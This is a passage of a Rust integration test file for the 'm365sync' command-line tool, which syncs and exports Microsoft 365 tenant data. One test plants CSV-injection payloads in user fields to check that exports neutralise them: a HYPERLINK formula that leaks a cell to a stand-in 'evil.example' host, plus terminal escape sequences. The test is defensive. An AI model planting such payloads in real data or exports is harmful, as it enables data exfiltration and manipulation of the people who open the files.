//! The command line as a person uses it: the real binary, the simulator, a store in a temp folder.

use std::io::{BufRead, BufReader, Read, Write};
use std::path::Path;
use std::process::{Child, Command, Output, Stdio};

use graph_sim::{RunningSimulator, SimConfig, TenantSpec};
use serde_json::Value;

// One test binary for the command line: each binary is another link.
#[path = "cli/accounts.rs"]
mod accounts;
#[path = "cli/accounts_browser.rs"]
mod accounts_browser;
#[path = "cli/browser.rs"]
mod browser;
#[path = "cli/crash.rs"]
mod crash;
#[path = "cli/devices.rs"]
mod devices;
#[path = "cli/insight.rs"]
mod insight;
#[path = "cli/install.rs"]
mod install;
#[path = "cli/jobs.rs"]
mod jobs;
#[path = "cli/partner.rs"]
mod partner;
#[path = "cli/tenants.rs"]
mod tenants;
#[path = "cli/tokens.rs"]
mod tokens;

fn m365sync(db: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_m365sync"));
    command
        .arg("--db")
        .arg(db)
        .args(args)
        .env_remove("M365SYNC_SECRET_KEY")
        .env_remove("M365SYNC_DB")
        // Neither this machine's nor this user's configuration file: an empty one.
        .env("M365SYNC_CONFIG", "/dev/null")
        .stdin(Stdio::null());
    for (k, v) in env {
        command.env(k, v);
    }
    command.output().expect("run m365sync")
}

fn text(output: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

async fn sim(users: u64) -> RunningSimulator {
    testkit::simulator(SimConfig {
        seed: 21,
        tenants: vec![TenantSpec::with_users(users)],
        ..SimConfig::default()
    })
    .await
}

fn add(db: &Path, sim: &RunningSimulator, name: &str, secret: &str) -> Output {
    add_with(db, sim, name, secret, &[])
}

/// `connection add` for the simulator's first tenant, with more options.
fn add_with(
    db: &Path,
    sim: &RunningSimulator,
    name: &str,
    secret: &str,
    options: &[&str],
) -> Output {
    let t = &sim.tenants()[0];
    let mut args = vec![
        "connection",
        "add",
        name,
        "--tenant-id",
        &t.tenant_id,
        "--client-id",
        &t.client_id,
        "--client-secret-env",
        "TEST_SECRET",
        "--login-url",
        &sim.url,
        "--graph-url",
        &sim.url,
    ];
    args.extend_from_slice(options);
    m365sync(db, &args, &[("TEST_SECRET", secret)])
}

#[tokio::test(flavor = "multi_thread")]
async fn add_test_sync_and_export_as_a_person_would() {
    let sim = sim(130).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let secret = sim.tenants()[0].client_secret.clone();

    let added = add(&db, &sim, "contoso", &secret);
    assert!(added.status.success(), "{:?}", text(&added));

    let listed = m365sync(&db, &["connection", "list", "--json"], &[]);
    let list: Value = serde_json::from_slice(&listed.stdout).unwrap();
    assert_eq!(list[0]["name"], "contoso");

    let tested = m365sync(&db, &["connection", "test", "contoso", "--json"], &[]);
    assert_eq!(tested.status.code(), Some(0), "{:?}", text(&tested));
    let report: Value = serde_json::from_slice(&tested.stdout).unwrap();
    assert_eq!(report["ok"], true);
    assert_eq!(report["problems"], serde_json::json!([]));
    assert!(
        report["granted_permissions"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p == "Reports.Read.All")
    );

    let synced = m365sync(&db, &["sync", "contoso", "--json"], &[]);
    assert_eq!(synced.status.code(), Some(0), "{:?}", text(&synced));
    let run: Value = serde_json::from_slice(&synced.stdout).unwrap();
    assert_eq!(run["status"], "succeeded");
    let users = run["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["dataset"] == "users")
        .unwrap();
    assert_eq!(users["created"], 130);
    for key in ["run_id", "warnings"] {
        assert!(run.get(key).is_some(), "{key}");
    }

    let exported = m365sync(&db, &["export", "contacts", "--connection", "contoso"], &[]);
    assert!(exported.status.success());
    let contacts: Value = serde_json::from_slice(&exported.stdout).unwrap();
    let contacts = contacts.as_array().unwrap();
    assert_eq!(contacts.len(), 130);
    for field in [
        "object_id",
        "tenant_id",
        "organization",
        "display_name",
        "given_name",
        "surname",
        "email",
        "user_principal_name",
        "job_title",
        "department",
        "office_location",
        "mobile_phone",
        "business_phones",
        "account_enabled",
        "user_type",
        "licenses",
        "license_names",
        "products",
        "mailbox",
        "archived",
    ] {
        assert!(contacts[0].get(field).is_some(), "contacts lack {field}");
    }
    let with_mailbox = contacts.iter().find(|c| !c["mailbox"].is_null()).unwrap();
    for field in [
        "storage_used_bytes",
        "item_count",
        "prohibit_send_quota_bytes",
        "last_activity_date",
    ] {
        assert!(
            with_mailbox["mailbox"].get(field).is_some(),
            "mailbox lacks {field}"
        );
    }
    assert!(
        contacts
            .iter()
            .any(|c| c["licenses"].as_array().is_some_and(|l| !l.is_empty()))
    );

    let csv = m365sync(&db, &["export", "contacts", "--format", "csv"], &[]);
    let csv = String::from_utf8(csv.stdout).unwrap();
    assert!(csv.starts_with("id,object_id,tenant_id,organization,display_name"));
    assert_eq!(csv.lines().count(), 131);
    let licenses: Value =
        serde_json::from_slice(&m365sync(&db, &["export", "licenses"], &[]).stdout).unwrap();
    let licenses = licenses.as_array().unwrap();
    assert_eq!(licenses.len(), 6);
    assert!(
        licenses
            .iter()
            .any(|l| l["name"] == "Microsoft_Teams_Premium" && l["in_catalogue"] == false)
    );
    assert!(
        licenses
            .iter()
            .any(|l| l["in_catalogue"] == true && l["name"] != l["sku_part_number"])
    );
    let orgs = m365sync(&db, &["export", "organizations", "--format", "csv"], &[]);
    assert!(
        String::from_utf8(orgs.stdout)
            .unwrap()
            .contains("Contoso Ltd")
    );
    let mailboxes = m365sync(&db, &["export", "mailboxes", "--format", "csv"], &[]);
    let mailboxes = String::from_utf8(mailboxes.stdout).unwrap();
    assert!(mailboxes.starts_with("tenant_id,organization,user_principal_name,"));
    assert!(mailboxes.contains(",shared,"), "shared mailboxes say so");
    let deleted: Value =
        serde_json::from_slice(&m365sync(&db, &["export", "deleted-mailboxes"], &[]).stdout)
            .unwrap();
    assert!(
        deleted
            .as_array()
            .unwrap()
            .iter()
            .all(|m| m["is_deleted"] == true && m["contact_object_id"].is_null())
    );

    let runs = m365sync(&db, &["runs", "--json"], &[]);
    let runs: Value = serde_json::from_slice(&runs.stdout).unwrap();
    assert_eq!(runs[0]["status"], "succeeded");

    // The secret is nowhere: not in any output, not in the database file.
    for output in [&added, &listed, &tested, &synced, &exported] {
        let (out, err) = text(output);
        assert!(!out.contains(&secret) && !err.contains(&secret));
    }
    let bytes = std::fs::read(&db).unwrap();
    assert!(!bytes.windows(secret.len()).any(|w| w == secret.as_bytes()));
    assert!(db.with_extension("db.key").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn connection_problems_come_back_as_codes_with_exit_1() {
    let sim = sim(3).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    add(
        &db,
        &sim,
        "pasted-id",
        "9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a",
    );
    let tested = m365sync(&db, &["connection", "test", "pasted-id", "--json"], &[]);
    assert_eq!(tested.status.code(), Some(1));
    let report: Value = serde_json::from_slice(&tested.stdout).unwrap();
    assert_eq!(report["ok"], false);
    assert_eq!(report["problems"][0]["code"], "secret_id_not_value");
    assert!(
        report["problems"][0]["fix"]
            .as_str()
            .unwrap()
            .contains("Value")
    );
    let plain = m365sync(&db, &["connection", "test", "pasted-id"], &[]);
    assert!(text(&plain).0.contains("[secret_id_not_value]"));

    // A sync whose users step is refused is partial, exits 1, and says why.
    sim.state.set_roles(
        &sim.tenants()[0].tenant_id,
        vec!["Organization.Read.All".into(), "Reports.Read.All".into()],
    );
    add(&db, &sim, "no-users", &sim.tenants()[0].client_secret);
    let synced = m365sync(&db, &["sync", "no-users", "--json"], &[]);
    assert_eq!(synced.status.code(), Some(1));
    let run: Value = serde_json::from_slice(&synced.stdout).unwrap();
    assert_eq!(run["status"], "partial");
    let users = run["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["dataset"] == "users")
        .unwrap();
    assert_eq!(users["status"], "failed");
    assert!(
        users["message"]
            .as_str()
            .unwrap()
            .contains("Authorization_RequestDenied")
    );
}

#[test]
fn bad_input_exits_2_and_names_the_fix() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let cases: [(&[&str], &str); 6] = [
        (
            &[
                "connection",
                "add",
                "x",
                "--tenant-id",
                "contoso",
                "--client-id",
                "72f988bf-86f1-41af-91ab-2d7cd011db47",
                "--client-secret-env",
                "S",
            ],
            "Directory (tenant) ID",
        ),
        (
            &[
                "connection",
                "add",
                "x",
                "--tenant-id",
                "72f988bf-86f1-41af-91ab-2d7cd011db47",
                "--client-id",
                "72f988bf-86f1-41af-91ab-2d7cd011db47",
            ],
            "--client-secret-env",
        ),
        (
            &[
                "connection",
                "add",
                "x",
                "--tenant-id",
                "72f988bf-86f1-41af-91ab-2d7cd011db47",
                "--client-id",
                "72f988bf-86f1-41af-91ab-2d7cd011db47",
                "--client-secret-env",
                "S",
                "--cloud",
                "mars",
            ],
            "global, usgov",
        ),
        (
            &[
                "connection",
                "add",
                "x",
                "--tenant-id",
                "72f988bf-86f1-41af-91ab-2d7cd011db47",
                "--client-id",
                "72f988bf-86f1-41af-91ab-2d7cd011db47",
                "--client-secret-env",
                "S",
                "--datasets",
                "users,printers",
            ],
            "organization, licenses, users, mailboxes, domains",
        ),
        (
            &[
                "connection",
                "add",
                "bad name",
                "--tenant-id",
                "72f988bf-86f1-41af-91ab-2d7cd011db47",
                "--client-id",
                "72f988bf-86f1-41af-91ab-2d7cd011db47",
                "--client-secret-env",
                "S",
            ],
            "letters, digits",
        ),
        (&["export", "printers"], "possible values"),
    ];
    for (args, hint) in cases {
        let output = m365sync(&db, args, &[("S", "Abc8Q~value")]);
        let (_, err) = text(&output);
        assert_eq!(output.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.contains(hint), "{args:?}: {err}");
        assert!(
            !err.contains("panicked") && !err.contains("RUST_BACKTRACE"),
            "{err}"
        );
    }
    let missing = m365sync(&db, &["sync", "nobody"], &[]);
    assert_eq!(missing.status.code(), Some(1));
    assert!(text(&missing).1.contains("connection list"));
    let nowhere = m365sync(
        &dir.path().join("no/such/folder/x.db"),
        &["connection", "list"],
        &[],
    );
    assert_eq!(nowhere.status.code(), Some(2));
    assert!(text(&nowhere).1.contains("does not exist"));
}

#[tokio::test(flavor = "multi_thread")]
async fn the_secret_can_come_from_standard_input() {
    let sim = sim(2).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let t = sim.tenants()[0].clone();
    let mut child = Command::new(env!("CARGO_BIN_EXE_m365sync"))
        .arg("--db")
        .arg(&db)
        .args([
            "connection",
            "add",
            "piped",
            "--tenant-id",
            &t.tenant_id,
            "--client-id",
            &t.client_id,
            "--client-secret-stdin",
        ])
        .args(["--login-url", &sim.url, "--graph-url", &sim.url])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(format!("{}\n", t.client_secret).as_bytes())
        .unwrap();
    assert!(child.wait_with_output().unwrap().status.success());
    let tested = m365sync(&db, &["connection", "test", "piped", "--json"], &[]);
    assert_eq!(tested.status.code(), Some(0), "{:?}", text(&tested));
}

/// The value a response sets for the cookie `name`.
fn set_cookie(response: &reqwest::Response, name: &str) -> String {
    response
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find_map(|v| {
            v.split(';')
                .next()?
                .strip_prefix(&format!("{name}="))
                .map(str::to_string)
        })
        .unwrap_or_else(|| panic!("no {name} cookie"))
}

#[tokio::test(flavor = "multi_thread")]
async fn serve_shows_what_was_synced() {
    let sim = sim(12).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    add(&db, &sim, "contoso", &sim.tenants()[0].client_secret);
    assert!(m365sync(&db, &["sync", "contoso"], &[]).status.success());
    let made = m365sync(
        &db,
        &["token", "create", "reader", "--role", "viewer", "--quiet"],
        &[],
    );
    assert!(made.status.success(), "{:?}", text(&made));
    let token = text(&made).0.trim().to_string();
    let admin = m365sync(
        &db,
        &["admin", "create", "ana", "--password-env", "ANA_PASSWORD"],
        &[("ANA_PASSWORD", "correct horse battery")],
    );
    assert!(admin.status.success(), "{:?}", text(&admin));
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut server = Command::new(env!("CARGO_BIN_EXE_m365sync"))
        .arg("--db")
        .arg(&db)
        .args(["serve", "--listen", &format!("127.0.0.1:{port}")])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let base = format!("http://127.0.0.1:{port}");
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let mut login_page = None;
    for _ in 0..100 {
        if let Ok(response) = http.get(format!("{base}/login")).send().await {
            login_page = Some(response);
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let login_page = login_page.expect("the server answered");
    let form_token = set_cookie(&login_page, "m365sync_form");
    let logged_in = http
        .post(format!("{base}/login"))
        .header("cookie", format!("m365sync_form={form_token}"))
        .form(&[
            ("csrf", form_token.as_str()),
            ("name", "ana"),
            ("password", "correct horse battery"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(logged_in.status().as_u16(), 303);
    let session = format!(
        "m365sync_session={}",
        set_cookie(&logged_in, "m365sync_session")
    );
    let page_of = |path: String| {
        let http = http.clone();
        let session = session.clone();
        async move {
            http.get(path)
                .header("cookie", session)
                .send()
                .await
                .unwrap()
                .text()
                .await
                .unwrap()
        }
    };
    let home = page_of(base.clone()).await;
    assert!(home.contains("contoso"), "{home}");
    let organizations = page_of(format!("{base}/organizations")).await;
    assert!(organizations.contains("Contoso Ltd"), "{organizations}");
    let api = |path: String| {
        http.get(format!("{base}/api/v1/{path}"))
            .bearer_auth(&token)
    };
    let orgs: Value = api("organizations".into())
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let id = orgs["items"][0]["id"].as_i64().unwrap();
    let page = page_of(format!("{base}/organizations/{id}")).await;
    let contacts: Value = api(format!("contacts?organization_id={id}"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let first = contacts["items"][0]["display_name"]
        .as_str()
        .unwrap()
        .replace('\'', "&#39;");
    assert!(page.contains(&first), "{first}");
    let _ = server.kill();
    let _ = server.wait();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_certificate_connection_is_added_tested_synced_and_renewed() {
    let sim = sim(12).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let t = &sim.tenants()[0];
    let issued = sim.state.add_certificate("0", -1, 20).unwrap().unwrap();
    let cert = dir.path().join("app.crt");
    let key = dir.path().join("app.key");
    std::fs::write(&cert, &issued.certificate_pem).unwrap();
    std::fs::write(&key, &issued.private_key_pem).unwrap();
    let add_with = |extra: &[&str]| {
        let mut args = vec![
            "connection",
            "add",
            "contoso",
            "--tenant-id",
            &t.tenant_id,
            "--client-id",
            &t.client_id,
            "--login-url",
            &sim.url,
            "--graph-url",
            &sim.url,
        ];
        args.extend_from_slice(extra);
        m365sync(&db, &args, &[])
    };

    // The key is missing from the certificate file: refused at once, with what to give.
    let refused = add_with(&["--certificate", cert.to_str().unwrap()]);
    assert_eq!(refused.status.code(), Some(2), "{:?}", text(&refused));
    assert!(
        text(&refused).1.contains("no private key"),
        "{:?}",
        text(&refused)
    );

    let added = add_with(&[
        "--certificate",
        cert.to_str().unwrap(),
        "--private-key",
        key.to_str().unwrap(),
    ]);
    assert!(added.status.success(), "{:?}", text(&added));
    assert!(text(&added).1.contains(&issued.thumbprint));

    let listed = m365sync(&db, &["connection", "list", "--json"], &[]);
    let list: Value = serde_json::from_slice(&listed.stdout).unwrap();
    assert_eq!(list[0]["credential"]["kind"], "certificate");
    assert_eq!(
        list[0]["credential"]["thumbprint"],
        issued.thumbprint.as_str()
    );

    // It works, and the test warns that it ends within 30 days.
    let tested = m365sync(&db, &["connection", "test", "contoso", "--json"], &[]);
    assert_eq!(tested.status.code(), Some(0), "{:?}", text(&tested));
    let report: Value = serde_json::from_slice(&tested.stdout).unwrap();
    assert_eq!(report["warnings"][0]["code"], "certificate_expiring");

    let synced = m365sync(&db, &["sync", "contoso", "--json"], &[]);
    assert!(synced.status.success(), "{:?}", text(&synced));

    // Removed from the app registration: the test names the certificate.
    let tenant = sim.state.tenant("0").unwrap();
    assert!(sim.state.remove_certificate(tenant, &issued.key_id));
    let tested = m365sync(&db, &["connection", "test", "contoso", "--json"], &[]);
    assert_eq!(tested.status.code(), Some(1));
    let report: Value = serde_json::from_slice(&tested.stdout).unwrap();
    assert_eq!(report["problems"][0]["code"], "invalid_certificate");
    assert!(
        report["problems"][0]["message"]
            .as_str()
            .unwrap()
            .contains(&issued.thumbprint)
    );

    // Renewed: a new certificate, key and certificate in one file.
    let renewed = sim.state.add_certificate("0", -1, 400).unwrap().unwrap();
    let bundle = dir.path().join("renewed.pem");
    std::fs::write(
        &bundle,
        format!("{}{}", renewed.private_key_pem, renewed.certificate_pem),
    )
    .unwrap();
    let swapped = m365sync(
        &db,
        &[
            "connection",
            "credential",
            "contoso",
            "--certificate",
            bundle.to_str().unwrap(),
        ],
        &[],
    );
    assert!(swapped.status.success(), "{:?}", text(&swapped));
    let tested = m365sync(&db, &["connection", "test", "contoso", "--json"], &[]);
    assert_eq!(tested.status.code(), Some(0), "{:?}", text(&tested));
    let report: Value = serde_json::from_slice(&tested.stdout).unwrap();
    assert_eq!(report["warnings"], serde_json::json!([]));

    // And back to a secret.
    let back = m365sync(
        &db,
        &[
            "connection",
            "credential",
            "contoso",
            "--client-secret-env",
            "S",
        ],
        &[("S", &t.client_secret)],
    );
    assert!(back.status.success(), "{:?}", text(&back));
    let tested = m365sync(&db, &["connection", "test", "contoso"], &[]);
    assert_eq!(tested.status.code(), Some(0), "{:?}", text(&tested));
}

#[tokio::test(flavor = "multi_thread")]
async fn concealed_report_names_are_found_by_the_test_and_shown_on_request() {
    let sim = sim(5).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let tenant = sim.tenants()[0].tenant_id.clone();
    sim.state.set_concealed(&tenant, true);
    let added = add(&db, &sim, "contoso", &sim.tenants()[0].client_secret);
    assert!(added.status.success(), "{:?}", text(&added));
    let warnings = || {
        let tested = m365sync(&db, &["connection", "test", "contoso", "--json"], &[]);
        assert_eq!(tested.status.code(), Some(0), "{:?}", text(&tested));
        let report: Value = serde_json::from_slice(&tested.stdout).unwrap();
        report["warnings"].as_array().unwrap().clone()
    };
    assert_eq!(warnings()[0]["code"], "report_names_concealed");

    // Without ReportSettings.ReadWrite.All the change is refused, naming the permission.
    let mut roles: Vec<String> = graph_sim::DEFAULT_ROLES
        .iter()
        .filter(|r| **r != "ReportSettings.ReadWrite.All")
        .map(|r| r.to_string())
        .collect();
    sim.state.set_roles(&tenant, roles.clone());
    let refused = m365sync(
        &db,
        &["connection", "report-names", "contoso", "--show"],
        &[],
    );
    assert_eq!(refused.status.code(), Some(1));
    assert!(
        text(&refused).1.contains("ReportSettings.ReadWrite.All"),
        "{:?}",
        text(&refused)
    );

    roles.push("ReportSettings.ReadWrite.All".into());
    sim.state.set_roles(&tenant, roles);
    let shown = m365sync(
        &db,
        &["connection", "report-names", "contoso", "--show"],
        &[],
    );
    assert!(shown.status.success(), "{:?}", text(&shown));
    assert!(warnings().is_empty());
    let hidden = m365sync(
        &db,
        &["connection", "report-names", "contoso", "--conceal"],
        &[],
    );
    assert!(hidden.status.success());
    assert_eq!(warnings()[0]["code"], "report_names_concealed");
}

#[test]
fn base_urls_with_a_query_a_fragment_or_a_password_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let add_with = |login: &str, graph: &str| {
        m365sync(
            &db,
            &[
                "connection",
                "add",
                "x",
                "--tenant-id",
                "72f988bf-86f1-41af-91ab-2d7cd011db47",
                "--client-id",
                "72f988bf-86f1-41af-91ab-2d7cd011db47",
                "--client-secret-env",
                "S",
                "--login-url",
                login,
                "--graph-url",
                graph,
            ],
            &[("S", "Abc8Q~value")],
        )
    };
    let query = add_with("http://127.0.0.1:9", "http://127.0.0.1:9/?x=1#y");
    let (_, err) = text(&query);
    assert_eq!(query.status.code(), Some(2), "{err}");
    assert!(
        err.contains("--graph-url") && err.contains("without ?… or #…"),
        "{err}"
    );

    let password = add_with("http://admin:hunter2@127.0.0.1:9", "http://127.0.0.1:9");
    let (out, err) = text(&password);
    assert_eq!(password.status.code(), Some(2), "{err}");
    assert!(
        err.contains("--login-url") && err.contains("user:password@"),
        "{err}"
    );
    assert!(
        !err.contains("hunter2") && !out.contains("hunter2"),
        "{err}"
    );

    let listed = m365sync(&db, &["connection", "list", "--json"], &[]);
    assert_eq!(
        serde_json::from_slice::<Value>(&listed.stdout).unwrap(),
        serde_json::json!([])
    );
}

/// Runs m365sync with its standard output a pipe whose reader is already closed, as
/// `m365sync … | head` leaves it once head has read its fill.
fn with_reader_gone(db: &Path, args: &[&str]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_m365sync"))
        .arg("--db")
        .arg(db)
        .args(args)
        .env_remove("M365SYNC_SECRET_KEY")
        .env_remove("M365SYNC_DB")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run m365sync");
    drop(child.stdout.take());
    child.wait_with_output().expect("wait for m365sync")
}

#[tokio::test(flavor = "multi_thread")]
async fn a_reader_that_stops_early_ends_the_output_quietly() {
    let sim = sim(40).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    add(&db, &sim, "contoso", &sim.tenants()[0].client_secret);
    let synced = m365sync(&db, &["sync", "contoso"], &[]);
    assert!(synced.status.success(), "{:?}", text(&synced));
    let commands: [&[&str]; 12] = [
        &["runs"],
        &["runs", "--json"],
        &["export", "contacts", "--format", "csv"],
        &["export", "contacts"],
        &["export", "mailboxes", "--format", "csv"],
        &["export", "licenses"],
        &["export", "organizations", "--format", "csv"],
        &["connection", "list"],
        &["connection", "list", "--json"],
        &["connection", "test", "contoso", "--json"],
        &["sync", "contoso", "--json"],
        &["migrate"],
    ];
    for args in commands {
        let output = with_reader_gone(&db, args);
        let (_, err) = text(&output);
        assert_eq!(output.status.code(), Some(0), "{args:?}: {err}");
        assert!(
            !err.contains("panicked") && !err.contains("error"),
            "{args:?}: {err}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn runs_of_a_connection_that_never_was_is_an_error_naming_those_there_are() {
    let sim = sim(3).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let none = m365sync(&db, &["runs", "--connection", "nosuch"], &[]);
    assert_eq!(none.status.code(), Some(1), "{:?}", text(&none));
    assert!(
        text(&none).1.contains("no connections yet"),
        "{:?}",
        text(&none)
    );

    add(&db, &sim, "contoso", &sim.tenants()[0].client_secret);
    add(&db, &sim, "fabrikam", &sim.tenants()[0].client_secret);
    assert!(m365sync(&db, &["sync", "contoso"], &[]).status.success());
    for args in [
        &["runs", "--connection", "nosuch"][..],
        &["runs", "--connection", "nosuch", "--json"],
    ] {
        let missing = m365sync(&db, args, &[]);
        let (out, err) = text(&missing);
        assert_eq!(missing.status.code(), Some(1), "{args:?}: {err}");
        assert!(out.is_empty(), "{out}");
        assert!(
            err.contains("no connection named 'nosuch'") && err.contains("'contoso', 'fabrikam'"),
            "{err}"
        );
    }

    // A connection with no runs yet lists none, and is no error.
    let quiet = m365sync(&db, &["runs", "--connection", "fabrikam"], &[]);
    assert_eq!(quiet.status.code(), Some(0), "{:?}", text(&quiet));

    // Removed, its runs still show under its name.
    let removed = m365sync(&db, &["connection", "remove", "contoso"], &[]);
    assert!(removed.status.success(), "{:?}", text(&removed));
    let kept = m365sync(&db, &["runs", "--connection", "contoso"], &[]);
    assert_eq!(kept.status.code(), Some(0), "{:?}", text(&kept));
    let (kept, _) = text(&kept);
    assert!(
        kept.lines()
            .skip(1)
            .any(|row| row.split_whitespace().nth(1) == Some("contoso")),
        "{kept}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn csv_exports_carry_no_formula_and_no_control_byte() {
    let sim = sim(4).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let hyperlink = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
    let http = reqwest::Client::new();
    let patch = |index: u64, body: Value| {
        let request = http
            .patch(format!("{}/_sim/tenants/0/users/{index}", sim.url))
            .json(&body)
            .send();
        async move {
            let answer = request.await.unwrap();
            assert!(answer.status().is_success(), "{}", answer.status());
        }
    };
    patch(
        0,
        serde_json::json!({ "displayName": hyperlink, "department": "-2+3", "mobilePhone": "@SUM(1+1)" }),
    )
    .await;
    patch(
        1,
        serde_json::json!({ "displayName": "Esc\u{1b}]0;owned\u{7}aped\u{0}", "department": "\u{9b}31mred\u{7f}", "mobilePhone": "+1 555 0100" }),
    )
    .await;
    add(&db, &sim, "contoso", &sim.tenants()[0].client_secret);
    let synced = m365sync(&db, &["sync", "contoso"], &[]);
    assert!(synced.status.success(), "{:?}", text(&synced));

    let exported = m365sync(&db, &["export", "contacts", "--format", "csv"], &[]);
    assert!(exported.status.success(), "{:?}", text(&exported));
    let csv = String::from_utf8(exported.stdout).unwrap();
    for cells in [
        r#","'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","#,
        ",'-2+3,",
        ",'@SUM(1+1),",
        ",Esc]0;ownedaped,",
        ",31mred,",
        ",'+1 555 0100,",
    ] {
        assert!(csv.contains(cells), "{cells:?} not in\n{csv}");
    }
    for kind in ["contacts", "mailboxes", "organizations", "licenses"] {
        let exported = m365sync(&db, &["export", kind, "--format", "csv"], &[]);
        assert!(exported.status.success(), "{kind}: {:?}", text(&exported));
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(exported.stdout.as_slice());
        let mut rows = 0;
        for record in reader.records() {
            rows += 1;
            for cell in &record.unwrap() {
                let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
                    || (cell.starts_with('-') && cell.parse::<f64>().is_err());
                assert!(!formula, "{kind}: {cell:?}");
                assert!(
                    !cell
                        .chars()
                        .any(|c| c.is_control() && c != '\n' && c != '\t'),
                    "{kind}: {cell:?}"
                );
            }
        }
        assert!(rows > 1, "{kind}");
    }

    // JSON stays as stored: control characters never got that far (they are cleaned as they
    // arrive from Microsoft), a formula is kept as text.
    let json = m365sync(&db, &["export", "contacts"], &[]);
    let contacts: Value = serde_json::from_slice(&json.stdout).unwrap();
    let names: Vec<&str> = contacts
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["display_name"].as_str().unwrap())
        .collect();
    assert!(names.contains(&hyperlink), "{names:?}");
    assert!(names.contains(&"Esc]0;ownedaped"), "{names:?}");
    assert!(
        contacts
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["department"] == "31mred"),
        "{contacts}"
    );
}

/// `sync --json` on either store: a sync of groups and audit twice (what PostgreSQL once refused
/// with an empty `IN ()`) succeeds, and a sync that cannot even start still prints its JSON.
async fn sync_json_prints_json_whatever_happens(kind: testkit::StoreKind) {
    let sim = sim(40).await;
    let dir = tempfile::tempdir().unwrap();
    let (_store, home) = testkit::store_of(kind).await;
    let db = match &home {
        testkit::StoreHome::Postgres(database) => std::path::PathBuf::from(&database.url),
        testkit::StoreHome::Sqlite(_) => dir.path().join("store.db"),
    };
    let secret = sim.tenants()[0].client_secret.clone();
    let added = add_with(
        &db,
        &sim,
        "contoso",
        &secret,
        &["--datasets", "organization,groups,audit"],
    );
    assert!(added.status.success(), "{:?}", text(&added));
    for _ in 0..2 {
        let synced = m365sync(&db, &["sync", "contoso", "--json"], &[]);
        assert_eq!(synced.status.code(), Some(0), "{:?}", text(&synced));
        let run: Value = serde_json::from_slice(&synced.stdout).unwrap();
        assert_eq!(run["status"], "succeeded", "{run}");
        assert_eq!(run["steps"].as_array().unwrap().len(), 3, "{run}");
        // A direct connection's steps name its tenant too.
        assert!(
            run["steps"]
                .as_array()
                .unwrap()
                .iter()
                .all(|s| s["tenant_id"] == sim.tenants()[0].tenant_id.as_str()
                    && s["tenant_name"] == "Contoso Ltd"),
            "{run}"
        );
    }
    // Groups export with real columns: their counts, and one row per membership.
    let exported = m365sync(&db, &["export", "groups"], &[]);
    assert!(exported.status.success(), "{:?}", text(&exported));
    let groups: Value = serde_json::from_slice(&exported.stdout).unwrap();
    let groups = groups.as_array().unwrap();
    assert_eq!(groups.len(), 6, "{groups:?}");
    let all_staff = groups
        .iter()
        .find(|g| g["display_name"] == "All Staff")
        .unwrap();
    assert_eq!(all_staff["kind"], "microsoft365");
    let count = all_staff["member_count"].as_u64().unwrap();
    assert!(count > 0);
    assert_eq!(all_staff["members"].as_array().unwrap().len() as u64, count);
    let csv = m365sync(&db, &["export", "group-members", "--format", "csv"], &[]);
    assert!(csv.status.success(), "{:?}", text(&csv));
    let (out, _) = text(&csv);
    let mut lines = out.lines();
    assert_eq!(
        lines.next(),
        Some(
            "organization,tenant_id,group_id,group_name,member_id,member_type,display_name,user_principal_name,group_archived"
        )
    );
    let memberships = groups
        .iter()
        .map(|g| g["member_count"].as_u64().unwrap())
        .sum::<u64>();
    assert_eq!(lines.count() as u64, memberships);
    let missing = m365sync(&db, &["sync", "nosuch", "--json"], &[]);
    assert_ne!(missing.status.code(), Some(0));
    let run: Value = serde_json::from_slice(&missing.stdout)
        .unwrap_or_else(|e| panic!("{e}: {:?}", text(&missing)));
    assert_eq!(run["status"], "failed");
